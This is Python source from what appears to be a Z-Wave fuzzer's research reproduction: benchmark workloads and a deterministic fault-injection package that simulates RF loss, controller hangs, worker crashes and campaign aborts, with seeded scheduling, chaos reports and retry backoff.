        before = (stats.received, stats.acked, stats.apl_processed, stats.responses_sent)
        for raw in raws:
            sut.dongle.inject_raw(raw)
            sut.clock.advance(0.012)
        after = (stats.received, stats.acked, stats.apl_processed, stats.responses_sent)
        delta = bytes(b"%d,%d,%d,%d" % tuple(a - b for a, b in zip(after, before)))
        return WorkloadRun(len(raws), _crc(0, delta))

    return run


# -- campaign frames/sec --------------------------------------------------------


def prepare_campaign_fps(fast: bool) -> Callable[[], WorkloadRun]:
    """The end-to-end engine loop: send, oracles, padding — frames/sec.

    Mirrors ``bench_engine_throughput``: a fresh SUT per run (engines
    consume their SUT), PSM streams over four classes, one simulated
    test packet every 0.75 s.  ``ops`` is packets sent, so the reported
    ops/sec is the campaign frames-per-second figure of the acceptance
    gate.
    """
    from ..core.fuzzer import FuzzerConfig, FuzzingEngine, psm_streams
    from ..core.mutation import PositionSensitiveMutator
    from ..simulator.testbed import build_sut
    from ..zwave.registry import load_full_registry

    duration = 180.0 if fast else 750.0

    def run() -> WorkloadRun:
        sut = build_sut("D1", seed=5, traffic=False)
        engine = FuzzingEngine(sut, FuzzerConfig())
        mutator = PositionSensitiveMutator(load_full_registry(), random.Random(5))
        result = engine.run(
            psm_streams(list(_SAFE_CMDCLS), mutator, 300.0, True), duration
        )
        summary = "%d,%d,%d,%s" % (
            result.packets_sent,
            len(result.detections),
            result.windows_completed,
            ",".join(f"{c:02x}" for c in sorted(result.cmdcls_used)),
        )
        return WorkloadRun(result.packets_sent, _crc(0, summary.encode()))

    return run


# -- event queue ----------------------------------------------------------------


def prepare_event_queue(fast: bool) -> Callable[[], WorkloadRun]:
    """The batched engine's heap: schedule_call, cancellation, drain.

    Times the :class:`~repro.radio.clock.SimClock` primitives every
    batched delivery rides — the arg-carrying ``schedule_call`` fast
    path, seeded cancellation, and the ``advance`` drain loop with its
    shared ``(fire_at, seq)`` tie-break.  Waves of events interleave
    with drains the way campaign ticks do, and the checksum folds the
    complete drain order, so ordering drift fails as nondeterminism
    before it could ever pass as a timing blip.
    """
    from ..radio.clock import SimClock

    waves = 40 if fast else 160
    per_wave = 250

    def run() -> WorkloadRun:
        rng = random.Random(0xE7E47)
        clock = SimClock()
        order = []
        checksum = 0
        for wave in range(waves):
            wave_ids = []
            for marker in range(per_wave):  # markers stay < 256: 1 byte each
                delay = rng.choice((0.001, 0.002, 0.002, 0.003, 0.008))
                wave_ids.append(clock.schedule_call(delay, order.append, marker))
            for event_id in wave_ids:
                if rng.random() < 0.125:
                    clock.cancel(event_id)
            clock.advance(0.05)
            checksum = _crc(checksum, bytes(order))
            del order[:]
        return WorkloadRun(waves * per_wave, checksum)

    return run


# -- resultio wire codec --------------------------------------------------------


def prepare_resultio_wire(fast: bool) -> Callable[[], WorkloadRun]:
    """Wire round-trips of a real (short) campaign result."""
    from ..core.campaign import Mode, run_campaign
    from ..core.resultio import (
        campaign_from_wire,
        campaign_to_wire,
        dumps_wire,
        loads_wire,
    )

    result = run_campaign("D1", Mode.FULL, duration=120.0, seed=11)
    rounds = 8 if fast else 25

    def run() -> WorkloadRun:
        checksum = 0
        for _ in range(rounds):
            text = dumps_wire(campaign_to_wire(result))
            restored = campaign_from_wire(loads_wire(text))
            checksum = _crc(checksum, text.encode())
            checksum = _crc(checksum, str(restored.unique_vulnerabilities).encode())
        return WorkloadRun(rounds, checksum)

    return run


# -- lint over a synthetic tree -------------------------------------------------


def prepare_lint_tree(fast: bool) -> Callable[[], WorkloadRun]:
    """All four lint families over a seeded synthetic tree.

    The tree is generated in ``prepare`` from a fixed seed — never the
    real package, whose checksums would drift on every source edit — and
    each thunk call re-parses it and runs the full analyzer stack, so
    the measured loop covers ``ast.parse``, the shared node/scope caches
    (the parse-once fix this workload pins), and the flow engine's
    summarize/link/fixpoint pipeline.
    """
    from ..lint.base import SourceFile
    from ..lint.runner import default_analyzers

    rng = random.Random(0x11A7)
    n_files = 12 if fast else 36
    texts = []
    for i in range(n_files):
        lines = ["import random", "import time", ""]
        for j in range(6):
            roll = rng.random()
            name = f"f_{i}_{j}"
            if roll < 0.2:
                lines += [f"def {name}():", "    return random.random()"]
            elif roll < 0.35:
                lines += [f"def {name}():", "    return time.time()"]
            elif roll < 0.5 and i > 0:
                callee = rng.randrange(i)
                lines += [
                    f"from pkg.mod_{callee} import f_{callee}_0",
                    f"def {name}(seed):",
                    f"    return f_{callee}_0(seed)",
                ]
            elif roll < 0.6:
                lines += [
                    f"def {name}(rng=None):",
                    "    return rng.random()",
                    f"def call_{name}():",
                    f"    return {name}()",
                ]
            else:
                lines += [
                    f"def {name}(seed, rng=random.Random(0)):",
                    f"    return seed * {j} + rng.randrange(4)",
                ]
        texts.append((f"pkg/mod_{i}.py", "\n".join(lines) + "\n"))

    def run() -> WorkloadRun:
        sources = [SourceFile.from_text(rel, text) for rel, text in texts]
        checksum = 0
        count = 0
        for analyzer in default_analyzers():
            for finding in analyzer.analyze(sources):
                line = f"{finding.path}:{finding.line}:{finding.col}:{finding.rule}"
                checksum = _crc(checksum, line.encode())
                count += 1
        return WorkloadRun(count, checksum)

    return run


#: Registry of every workload, in canonical execution order.  The
#: calibration loop always runs (the bench harness prepends it when a
#: subset omits it) because every document ratio is relative to it.
WORKLOADS: Dict[str, WorkloadPrepare] = {
    CALIBRATION: prepare_calibration,
    "frame_codec": prepare_frame_codec,
    "mutation_batch": prepare_mutation_batch,
    "controller_dispatch": prepare_controller_dispatch,
    "event_queue": prepare_event_queue,
    "campaign_fps": prepare_campaign_fps,
    "resultio_wire": prepare_resultio_wire,
    "lint_tree": prepare_lint_tree,
}
