"""Fault plans: failure as a first-class, reproducible campaign input.

ZCover's real-world campaigns run against flaky RF links, controllers
that hang mid-fuzz and hour-long hardware sessions (PAPER.md §V: the
lost-ping hang detector and the power-cycle recovery path exist because
the hardware *did* misbehave).  The simulator used to exercise those
paths only incidentally — a lossy link was conjured by parking the
attacker 85 m away, a worker crash by a magic string on the campaign
unit.  A :class:`FaultPlan` replaces those accidents with a declarative,
JSON-clean description of what must go wrong:

* **medium** layer — ``drop`` / ``corrupt`` / ``duplicate`` / ``delay``
  applied per transmission on the shared RF channel;
* **controller** layer — ``hang`` / ``spurious-reset`` / ``slow-ack``
  applied to the virtual hub's firmware;
* **worker** layer — ``crash`` / ``raise`` / ``timeout`` applied to the
  process-pool shard running a campaign unit;
* **campaign** layer — ``abort`` cuts the fuzzing phase short, producing
  a partial result tagged with a :class:`DegradationRecord`.

Plans are compiled into deterministic schedules by
:class:`repro.faults.schedule.FaultPlanner`: the same ``(plan, seed)``
pair always yields the same injected faults, serial or sharded, which is
what keeps resilience-audit reports byte-identical across runs.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Dict, Tuple

from ..errors import ReproError

#: Plan document envelope, mirroring the obs/lint schema convention.
SCHEMA = "zcover-fault-plan"
SCHEMA_VERSION = 1

#: The four injection layers, in canonical order.
LAYER_MEDIUM = "medium"
LAYER_CONTROLLER = "controller"
LAYER_WORKER = "worker"
LAYER_CAMPAIGN = "campaign"

#: Legal fault kinds per layer (the plan validator's single source).
KINDS_BY_LAYER: Dict[str, Tuple[str, ...]] = {
    LAYER_MEDIUM: ("drop", "corrupt", "duplicate", "delay"),
    LAYER_CONTROLLER: ("hang", "spurious-reset", "slow-ack"),
    LAYER_WORKER: ("crash", "raise", "timeout"),
    LAYER_CAMPAIGN: ("abort",),
}


class FaultPlanError(ReproError):
    """A fault plan does not match the expected schema or constraints."""


@dataclass(frozen=True)
class FaultSpec:
    """One declared fault.  Which fields matter depends on the kind:

    * rate-driven faults (medium ``drop``/``corrupt``/``duplicate``/
      ``delay``, controller ``slow-ack``) fire per event with
      probability ``rate`` drawn from the layer's seeded generator;
    * periodic faults (controller ``hang``/``spurious-reset``) fire
      every ``every_s`` simulated seconds;
    * one-shot faults (campaign ``abort``) fire at ``at_s`` seconds into
      the fuzzing phase;
    * worker faults target the unit at ``unit_index`` in its series
      (``-1`` = every unit); ``magnitude`` is the hang/timeout duration.

    ``magnitude`` is the kind's intensity: hang/slow-ack/delay duration
    in seconds.
    """

    layer: str
    kind: str
    rate: float = 0.0
    every_s: float = 0.0
    at_s: float = -1.0
    magnitude: float = 0.0
    unit_index: int = -1

    def validate(self) -> None:
        """Raise :class:`FaultPlanError` on any out-of-vocabulary field."""
        kinds = KINDS_BY_LAYER.get(self.layer)
        if kinds is None:
            raise FaultPlanError(f"unknown fault layer {self.layer!r}")
        if self.kind not in kinds:
            raise FaultPlanError(
                f"layer {self.layer!r} has no fault kind {self.kind!r} "
                f"(expected one of {', '.join(kinds)})"
            )
        if not 0.0 <= self.rate <= 1.0:
            raise FaultPlanError(f"rate {self.rate} outside [0, 1]")
        if self.every_s < 0.0:
            raise FaultPlanError(f"every_s {self.every_s} must be >= 0")
        if self.magnitude < 0.0:
            raise FaultPlanError(f"magnitude {self.magnitude} must be >= 0")

    def to_wire(self) -> dict:
        """Plain-data form; defaulted fields are elided for stable docs."""
        wire: dict = {"layer": self.layer, "kind": self.kind}
        if self.rate:
            wire["rate"] = self.rate
        if self.every_s:
            wire["every_s"] = self.every_s
        if self.at_s >= 0.0:
            wire["at_s"] = self.at_s
        if self.magnitude:
            wire["magnitude"] = self.magnitude
        if self.unit_index >= 0:
            wire["unit_index"] = self.unit_index
        return wire

    @classmethod
    def from_wire(cls, data: dict) -> "FaultSpec":
        try:
            spec = cls(
                layer=data["layer"],
                kind=data["kind"],
                rate=float(data.get("rate", 0.0)),
                every_s=float(data.get("every_s", 0.0)),
                at_s=float(data.get("at_s", -1.0)),
                magnitude=float(data.get("magnitude", 0.0)),
                unit_index=int(data.get("unit_index", -1)),
            )
        except (KeyError, TypeError, ValueError) as exc:
            raise FaultPlanError(f"malformed fault spec {data!r}: {exc}") from exc
        spec.validate()
        return spec


@dataclass(frozen=True)
class FaultPlan:
    """A named, ordered collection of fault specs."""

    name: str
    faults: Tuple[FaultSpec, ...] = ()

    def validate(self) -> None:
        for spec in self.faults:
            spec.validate()

    def layer(self, layer: str) -> Tuple[FaultSpec, ...]:
        """The specs of one layer, in plan order."""
        return tuple(spec for spec in self.faults if spec.layer == layer)

    def to_wire(self) -> dict:
        return {
            "schema": SCHEMA,
            "schema_version": SCHEMA_VERSION,
            "name": self.name,
            "faults": [spec.to_wire() for spec in self.faults],
        }

    @classmethod
    def from_wire(cls, data: dict) -> "FaultPlan":
        if data.get("schema") != SCHEMA:
            raise FaultPlanError(
                f"not a {SCHEMA} document (schema={data.get('schema')!r})"
            )
        if data.get("schema_version") != SCHEMA_VERSION:
            raise FaultPlanError(
                f"schema version {data.get('schema_version')!r} "
                f"!= expected {SCHEMA_VERSION}"
            )
        faults = tuple(FaultSpec.from_wire(entry) for entry in data.get("faults", []))
        plan = cls(name=str(data.get("name", "unnamed")), faults=faults)
        plan.validate()
        return plan


def dumps_plan(plan: FaultPlan) -> str:
    """Canonical serialisation: sorted keys, indent 2, trailing newline."""
    return json.dumps(plan.to_wire(), sort_keys=True, indent=2) + "\n"


def save_plan(plan: FaultPlan, path: str) -> None:
    """Write *plan* to *path* in canonical form."""
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(dumps_plan(plan))


def load_plan(path: str) -> FaultPlan:
    """Read a plan file written by :func:`save_plan` (or by hand)."""
    with open(path, "r", encoding="utf-8") as handle:
        try:
            data = json.load(handle)
        except json.JSONDecodeError as exc:
            raise FaultPlanError(f"{path}: not valid JSON: {exc}") from exc
    return FaultPlan.from_wire(data)


def loads_plan(text: str) -> FaultPlan:
    """Parse a plan from a JSON string (the unit wire form)."""
    try:
        data = json.loads(text)
    except json.JSONDecodeError as exc:
        raise FaultPlanError(f"not valid JSON: {exc}") from exc
    return FaultPlan.from_wire(data)


# -- stock plans ---------------------------------------------------------------


def canonical_mixed_plan() -> FaultPlan:
    """The canonical mixed plan: every in-process layer at audit rates.

    This is the plan the chaos CLI defaults to, the golden file pins and
    the paper-mapping docs reference: a marginal RF link (drop/corrupt/
    duplicate/delay), a hub that hangs and spontaneously reboots, slow
    acknowledgements, and a mid-fuzz abort that exercises the graceful
    degradation path.
    """
    return FaultPlan(
        name="canonical-mixed",
        faults=(
            FaultSpec(LAYER_MEDIUM, "drop", rate=0.05),
            FaultSpec(LAYER_MEDIUM, "corrupt", rate=0.03),
            FaultSpec(LAYER_MEDIUM, "duplicate", rate=0.02),
            FaultSpec(LAYER_MEDIUM, "delay", rate=0.02, magnitude=0.05),
            FaultSpec(LAYER_CONTROLLER, "hang", every_s=180.0, magnitude=4.0),
            FaultSpec(LAYER_CONTROLLER, "spurious-reset", every_s=420.0),
            FaultSpec(LAYER_CONTROLLER, "slow-ack", rate=0.2, magnitude=0.3),
            FaultSpec(LAYER_CAMPAIGN, "abort", at_s=480.0),
        ),
    )


def lossy_link_plan(drop_rate: float = 0.4, corrupt_rate: float = 0.1) -> FaultPlan:
    """A badly placed antenna, without magic distance parameters."""
    return FaultPlan(
        name="lossy-link",
        faults=(
            FaultSpec(LAYER_MEDIUM, "drop", rate=drop_rate),
            FaultSpec(LAYER_MEDIUM, "corrupt", rate=corrupt_rate),
        ),
    )


def flaky_controller_plan(
    hang_every_s: float = 120.0, hang_s: float = 3.0, reset_every_s: float = 300.0
) -> FaultPlan:
    """A hub that hangs and spontaneously reboots during the session."""
    return FaultPlan(
        name="flaky-controller",
        faults=(
            FaultSpec(LAYER_CONTROLLER, "hang", every_s=hang_every_s, magnitude=hang_s),
            FaultSpec(LAYER_CONTROLLER, "spurious-reset", every_s=reset_every_s),
            FaultSpec(LAYER_CONTROLLER, "slow-ack", rate=0.3, magnitude=0.3),
        ),
    )


def stock_plan(name: str) -> FaultPlan:
    """Resolve a built-in plan name (``canonical``, ``lossy``, ``flaky``)."""
    builders = {
        "canonical": canonical_mixed_plan,
        "lossy": lossy_link_plan,
        "flaky": flaky_controller_plan,
    }
    builder = builders.get(name)
    if builder is None:
        raise FaultPlanError(
            f"unknown stock plan {name!r} (expected one of {', '.join(sorted(builders))})"
        )
    return builder()


def resolve_plan(ref: str) -> FaultPlan:
    """A CLI ``--plan``/``--fault-plan`` value: stock name or file path."""
    if ref in ("canonical", "lossy", "flaky"):
        return stock_plan(ref)
    return load_plan(ref)


# -- degradation ---------------------------------------------------------------


@dataclass(frozen=True)
class DegradationRecord:
    """Why a campaign under faults returned a partial result.

    JSON-clean by construction: it rides the :mod:`repro.core.resultio`
    wire codec inside :class:`~repro.core.campaign.CampaignResult`.
    """

    stage: str  # campaign phase that was cut short ("fuzz", "verify", ...)
    reason: str  # "abort" for planned aborts, the error class otherwise
    at_s: float  # simulated time of the degradation
    faults_injected: int  # total injected faults up to that point
    detail: str = ""

    def to_wire(self) -> dict:
        return {
            "stage": self.stage,
            "reason": self.reason,
            "at_s": self.at_s,
            "faults_injected": self.faults_injected,
            "detail": self.detail,
        }

    @classmethod
    def from_wire(cls, data: dict) -> "DegradationRecord":
        return cls(
            stage=data["stage"],
            reason=data["reason"],
            at_s=data["at_s"],
            faults_injected=data["faults_injected"],
            detail=data.get("detail", ""),
        )
