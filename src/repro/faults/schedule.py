"""Compiling fault plans into deterministic schedules.

A :class:`FaultPlanner` turns a :class:`~repro.faults.plan.FaultPlan`
into a :class:`FaultSchedule` for one campaign seed.  Compilation is a
**pure function of (plan, seed)**: every random draw flows through
generators seeded by :func:`derive_seed`, which mixes the campaign seed
with a stable CRC-32 of the layer label — never the builtin ``hash()``,
whose string hashing is randomised per process and would silently break
cross-worker determinism (lint rule D104 holds that line).

Per-layer determinism contracts:

* **medium** — one seeded generator consumed in transmission order; the
  simulation is single-threaded, so transmission order (and therefore
  the decision stream) is identical on every run of the same campaign;
* **controller** — periodic events are *computed*, not drawn:
  ``k * every_s`` for ``k >= 1``, so they are trivially order-invariant;
* **worker** — the spec maps a unit's index in its series to a
  :class:`~repro.faults.worker.WorkerFault` token, the same token the
  serial executor path applies, keeping serial and sharded runs aligned;
* **campaign** — the abort offset is read straight off the plan.
"""

from __future__ import annotations

import random
import zlib
from dataclasses import dataclass
from typing import List, Optional, Tuple

from .plan import (
    LAYER_CAMPAIGN,
    LAYER_CONTROLLER,
    LAYER_MEDIUM,
    LAYER_WORKER,
    FaultPlan,
    FaultSpec,
)
from .worker import WorkerFault


def derive_seed(seed: int, label: str) -> int:
    """A stable per-layer sub-seed: campaign seed mixed with a CRC-32.

    ``zlib.crc32`` is deterministic across processes and interpreter
    versions, unlike ``hash(str)`` which is randomised by PYTHONHASHSEED.
    """
    return (seed * 0x9E3779B1 + zlib.crc32(label.encode("utf-8"))) & 0x7FFFFFFF


@dataclass(frozen=True)
class ControllerEvent:
    """One scheduled firmware fault: fires at ``at_s`` simulated seconds."""

    at_s: float
    kind: str
    magnitude: float


class FaultSchedule:
    """The compiled, per-campaign fault schedule for one (plan, seed)."""

    def __init__(self, plan: FaultPlan, seed: int):
        plan.validate()
        self.plan = plan
        self.seed = seed
        self.medium_specs: Tuple[FaultSpec, ...] = plan.layer(LAYER_MEDIUM)
        self.controller_rate_specs: Tuple[FaultSpec, ...] = tuple(
            spec for spec in plan.layer(LAYER_CONTROLLER) if spec.rate > 0.0
        )
        self.controller_periodic_specs: Tuple[FaultSpec, ...] = tuple(
            spec for spec in plan.layer(LAYER_CONTROLLER) if spec.every_s > 0.0
        )
        self.worker_specs: Tuple[FaultSpec, ...] = plan.layer(LAYER_WORKER)
        self._abort = next(
            (
                spec
                for spec in plan.layer(LAYER_CAMPAIGN)
                if spec.kind == "abort" and spec.at_s >= 0.0
            ),
            None,
        )

    # -- per-layer generators (fresh per installation) -------------------------

    def medium_rng(self) -> random.Random:
        return random.Random(derive_seed(self.seed, "faults.medium"))

    def controller_rng(self) -> random.Random:
        return random.Random(derive_seed(self.seed, "faults.controller"))

    # -- controller events -----------------------------------------------------

    def controller_events(self, horizon_s: float) -> List[ControllerEvent]:
        """Every periodic firmware fault due within *horizon_s*, in order."""
        events: List[ControllerEvent] = []
        for spec in self.controller_periodic_specs:
            k = 1
            while k * spec.every_s <= horizon_s:
                events.append(
                    ControllerEvent(k * spec.every_s, spec.kind, spec.magnitude)
                )
                k += 1
        return sorted(events, key=lambda e: (e.at_s, e.kind))

    # -- worker faults ---------------------------------------------------------

    def worker_fault(self, unit_index: int) -> Optional[WorkerFault]:
        """The fault for the unit at *unit_index* in its series, if any."""
        for spec in self.worker_specs:
            if spec.unit_index in (-1, unit_index):
                return WorkerFault.from_spec_kind(spec.kind, spec.magnitude)
        return None

    def worker_token(self, unit_index: int) -> Optional[str]:
        fault = self.worker_fault(unit_index)
        return None if fault is None else fault.to_token()

    # -- campaign abort --------------------------------------------------------

    @property
    def abort_at_s(self) -> Optional[float]:
        """Seconds into the fuzzing phase at which the campaign aborts."""
        return None if self._abort is None else self._abort.at_s

    # -- determinism fingerprint -----------------------------------------------

    def describe(self, horizon_s: float = 600.0, draws: int = 32) -> dict:
        """A JSON-clean fingerprint of everything this schedule will do.

        Pure data derived only from ``(plan, seed)`` — the property suite
        asserts two compilations (in any order) produce identical
        descriptions.  *draws* samples the head of the medium decision
        stream so rate faults are covered too.
        """
        rng = self.medium_rng()
        medium_head = [round(rng.random(), 12) for _ in range(draws)]
        ack_rng = self.controller_rng()
        ack_head = [round(ack_rng.random(), 12) for _ in range(draws)]
        return {
            "plan": self.plan.to_wire(),
            "seed": self.seed,
            "medium_decision_head": medium_head,
            "controller_ack_head": ack_head,
            "controller_events": [
                [event.at_s, event.kind, event.magnitude]
                for event in self.controller_events(horizon_s)
            ],
            "worker_tokens": [self.worker_token(i) for i in range(8)],
            "abort_at_s": self.abort_at_s,
        }


class FaultPlanner:
    """Compiles one plan into per-seed schedules."""

    def __init__(self, plan: FaultPlan):
        plan.validate()
        self.plan = plan

    def compile(self, seed: int) -> FaultSchedule:
        """The deterministic schedule for one campaign seed."""
        return FaultSchedule(self.plan, seed)
