"""The chaos report: canonical document of one resilience audit.

``zcover chaos`` and the golden regression test share this builder so
they can never disagree.  The document is canonical JSON (sorted keys,
two-space indent, trailing newline): the same plan and seed produce the
same bytes on every run, serial or sharded — the property the acceptance
gate (`zcover chaos ... --seed 0` twice, and with ``--workers 2``)
holds.
"""

from __future__ import annotations

import json

from .plan import FaultPlan

#: Document type marker, mirroring the obs/lint schema envelopes.
SCHEMA = "zcover-chaos-report"
SCHEMA_VERSION = 1


def build_chaos_document(summary, plan: FaultPlan, seed: int) -> dict:
    """The resilience-audit document for one fault-plan trial series.

    *summary* is a :class:`~repro.core.trials.TrialSummary`.  Worker
    count is deliberately absent from the document: a sharded audit must
    render the same bytes as a serial one.
    """
    trials = []
    for result in summary.trials:
        entry = result.to_dict()
        entry["degraded"] = result.degradation is not None
        trials.append(entry)
    return {
        "schema": SCHEMA,
        "schema_version": SCHEMA_VERSION,
        "meta": {
            "device": summary.device,
            "mode": summary.mode.name,
            "duration_s": summary.duration,
            "seed": seed,
            "trials": summary.n_trials,
        },
        "plan": plan.to_wire(),
        "trials": trials,
        "failures": [
            {
                "label": failure.unit.label(),
                "category": failure.category,
                "attempts": failure.attempts,
            }
            for failure in summary.failures
        ],
        "metrics": summary.metrics_document(),
    }


def dumps_chaos_document(doc: dict) -> str:
    """Canonical serialisation: sorted keys, indent 2, trailing newline."""
    return json.dumps(doc, sort_keys=True, indent=2) + "\n"


def render_chaos_text(doc: dict) -> str:
    """Human-readable summary of a chaos document."""
    meta = doc["meta"]
    counters = doc["metrics"]["counters"]
    injected = {
        key[len("faults.injected."):]: value
        for key, value in counters.items()
        if key.startswith("faults.injected.")
    }
    lines = [
        f"chaos audit: {meta['trials']} trial(s) of {meta['mode']} on "
        f"{meta['device']}, {meta['duration_s'] / 3600:.2f}h each, "
        f"seed {meta['seed']}, plan '{doc['plan']['name']}'",
        f"faults injected      : {sum(injected.values())}",
    ]
    for key in sorted(injected):
        lines.append(f"  {key:22s}: {injected[key]}")
    degraded = sum(1 for trial in doc["trials"] if trial["degraded"])
    lines.append(f"trials completed     : {len(doc['trials'])}")
    lines.append(f"  degraded (partial) : {degraded}")
    lines.append(f"unit failures        : {len(doc['failures'])}")
    for failure in doc["failures"]:
        lines.append(
            f"  {failure['label']} [{failure['category']}] "
            f"after {failure['attempts']} attempt(s)"
        )
    for index, trial in enumerate(doc["trials"]):
        tag = ""
        if trial["degraded"]:
            deg = trial["degradation"]
            tag = (
                f"  [degraded: {deg['reason']} in {deg['stage']} "
                f"at t={deg['at_s']:.1f}s]"
            )
        lines.append(
            f"trial {index}: packets={trial['packets_sent']} "
            f"unique={trial['unique_vulnerabilities']}{tag}"
        )
    return "\n".join(lines)
