"""Campaign-level resilience: seeded-jitter retry backoff with budgets.

The parallel executor retries failed units; under real worker crashes a
thundering-herd retry (every survivor immediately resubmitted) is the
classic way to turn one flaky shard into a broken session.  A
:class:`BackoffPolicy` spaces the retry rounds out instead — exponential
growth, a per-delay cap, a total budget cap, and *seeded* jitter so the
full delay sequence is a pure function of the policy (the property suite
pins that), never of wall-clock sampling.

The default policy sleeps zero seconds, so nothing slows down unless a
caller opts in; the computed (deterministic) delays are still recorded
as ``parallel.backoff_planned_ms`` for the audit trail.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Tuple

from .schedule import derive_seed


@dataclass(frozen=True)
class BackoffPolicy:
    """Retry spacing: ``min(cap, base * factor**round) * jitter``.

    ``budget_s`` caps the *cumulative* planned delay: rounds whose delay
    would exceed the remaining budget are clamped to it, and every round
    after exhaustion gets zero.  ``jitter`` scales each delay by a
    seeded uniform draw from ``[1 - jitter, 1 + jitter]``.
    """

    base_s: float = 0.0
    factor: float = 2.0
    cap_s: float = 1.0
    jitter: float = 0.5
    budget_s: float = 5.0
    seed: int = 0


def backoff_delays(policy: BackoffPolicy, rounds: int) -> Tuple[float, ...]:
    """The planned delay before each retry round; pure in (policy, rounds)."""
    rng = random.Random(derive_seed(policy.seed, "faults.backoff"))
    delays = []
    remaining = policy.budget_s
    for round_index in range(rounds):
        raw = min(policy.cap_s, policy.base_s * (policy.factor ** round_index))
        jittered = raw * (1.0 + policy.jitter * (2.0 * rng.random() - 1.0))
        delay = max(0.0, min(jittered, remaining))
        delays.append(round(delay, 9))
        remaining -= delay
    return tuple(delays)
