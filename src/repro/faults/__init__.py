"""Deterministic fault injection (`repro.faults`).

Failure as a first-class, reproducible input: declarative
:class:`FaultPlan` documents compile — via a seeded
:class:`FaultPlanner` — into deterministic schedules injected through
small hook points at the radio medium, the virtual controller, the
process-pool worker and the campaign itself.  Same plan + same seed ⇒
the same faults, the same partial results and byte-identical reports,
serial or sharded.  See ``docs/architecture.md`` §Fault injection.
"""

from .injector import (
    AbortHook,
    AbortSignal,
    ControllerFaultInjector,
    MediumAction,
    MediumFaultInjector,
)
from .plan import (
    DegradationRecord,
    FaultPlan,
    FaultPlanError,
    FaultSpec,
    canonical_mixed_plan,
    dumps_plan,
    flaky_controller_plan,
    load_plan,
    loads_plan,
    lossy_link_plan,
    resolve_plan,
    save_plan,
    stock_plan,
)
from .report import build_chaos_document, dumps_chaos_document, render_chaos_text
from .resilience import BackoffPolicy, backoff_delays
from .schedule import ControllerEvent, FaultPlanner, FaultSchedule, derive_seed
from .worker import WorkerFault, WorkerFaultError, apply_worker_fault

__all__ = [
    "AbortHook",
    "AbortSignal",
    "BackoffPolicy",
    "ControllerEvent",
    "ControllerFaultInjector",
    "DegradationRecord",
    "FaultPlan",
    "FaultPlanError",
    "FaultPlanner",
    "FaultSchedule",
    "FaultSpec",
    "MediumAction",
    "MediumFaultInjector",
    "WorkerFault",
    "WorkerFaultError",
    "apply_worker_fault",
    "backoff_delays",
    "build_chaos_document",
    "canonical_mixed_plan",
    "derive_seed",
    "dumps_chaos_document",
    "dumps_plan",
    "flaky_controller_plan",
    "load_plan",
    "loads_plan",
    "lossy_link_plan",
    "render_chaos_text",
    "resolve_plan",
    "save_plan",
    "stock_plan",
]
