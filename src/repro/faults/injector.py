"""Fault injectors: the small hook points the simulator exposes.

Rather than monkeypatching simulator internals, each layer consults an
optional injector attribute that defaults to ``None`` (a no-op):

* :class:`RadioMedium` calls ``fault_injector.on_transmit(...)`` once
  per transmission and applies the returned :class:`MediumAction`;
* :class:`VirtualController` calls ``fault_injector.ack_delay()`` before
  transmitting a MAC acknowledgement; periodic firmware faults (hang,
  spurious reset) are scheduled on the campaign's :class:`SimClock` by
  :meth:`ControllerFaultInjector.install`;
* the fuzzing engine re-raises nothing for a planned abort — the
  :class:`AbortHook` raises :class:`AbortSignal` from a clock callback,
  the engine catches it, finishes its bookkeeping and returns the
  partial result, and the campaign tags it with a degradation record.

Every injection increments an ``faults.injected.<layer>.<kind>`` counter
on the active metrics collector, so ``--metrics-out`` documents a
resilience audit's exact fault mix.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Optional, Tuple

from ..errors import ReproError
from ..obs import metrics as obs
from ..radio.clock import SimClock
from .plan import FaultSpec
from .schedule import FaultSchedule


class AbortSignal(ReproError):
    """A planned campaign abort fired; carries no partial state itself."""


@dataclass
class MediumAction:
    """What the medium should do to one transmission."""

    drop: bool = False
    corrupt: Optional[bytes] = None  # replacement frame bytes
    extra_delay: float = 0.0
    duplicate: bool = False


class MediumFaultInjector:
    """Per-transmission drop/corrupt/duplicate/delay decisions.

    One seeded generator consumed in transmission order; the simulation
    is single-threaded, so the decision stream is a pure function of
    ``(plan, seed)``.
    """

    def __init__(self, specs: Tuple[FaultSpec, ...], rng: random.Random):
        self._specs = specs
        self._rng = rng
        self.injected = 0

    def on_transmit(self, sender: str, frame_bytes: bytes) -> Optional[MediumAction]:
        """The action for this transmission, or ``None`` when no fault hit."""
        action = MediumAction()
        hit = False
        for spec in self._specs:
            if spec.rate <= 0.0 or self._rng.random() >= spec.rate:
                continue
            hit = True
            self.injected += 1
            obs.inc(f"faults.injected.medium.{spec.kind}")
            if spec.kind == "drop":
                action.drop = True
            elif spec.kind == "corrupt":
                action.corrupt = self._flip_one_byte(frame_bytes)
            elif spec.kind == "duplicate":
                action.duplicate = True
            elif spec.kind == "delay":
                action.extra_delay += spec.magnitude
        return action if hit else None

    def _flip_one_byte(self, frame_bytes: bytes) -> bytes:
        if not frame_bytes:
            return frame_bytes
        index = self._rng.randrange(len(frame_bytes))
        mutated = bytearray(frame_bytes)
        mutated[index] ^= 1 << self._rng.randrange(8)
        return bytes(mutated)


class ControllerFaultInjector:
    """Firmware-level hang / spurious-reset / slow-ack injection."""

    def __init__(self, schedule: FaultSchedule):
        self._schedule = schedule
        self._rng = schedule.controller_rng()
        self._controller = None
        self.injected = 0

    def install(self, controller, clock: SimClock, horizon_s: float) -> None:
        """Attach to *controller* and book every periodic event on *clock*.

        Event times are relative to installation (the fuzz-phase start).
        They are computed (``k * every_s``), not drawn, so horizon and
        booking order cannot perturb the rate-fault decision stream.
        """
        self._controller = controller
        controller.fault_injector = self
        for event in self._schedule.controller_events(horizon_s):
            clock.schedule(event.at_s, self._firer(event.kind, event.magnitude))

    def _firer(self, kind: str, magnitude: float):
        def fire() -> None:
            self.injected += 1
            obs.inc(f"faults.injected.controller.{kind}")
            if kind == "hang":
                self._controller.inject_hang(magnitude)
            elif kind == "spurious-reset":
                self._controller.spurious_reset()

        return fire

    def ack_delay(self) -> float:
        """Extra delay before the next MAC ACK transmission, in seconds."""
        delay = 0.0
        for spec in self._schedule.controller_rate_specs:
            if spec.kind != "slow-ack" or spec.rate <= 0.0:
                continue
            if self._rng.random() < spec.rate:
                self.injected += 1
                obs.inc("faults.injected.controller.slow-ack")
                delay += spec.magnitude
        return delay


class AbortHook:
    """Books the planned campaign abort and remembers whether it fired."""

    def __init__(self, at_s: float):
        self.at_s = at_s
        self.fired = False
        self.fired_at: float = -1.0

    def install(self, clock: SimClock) -> None:
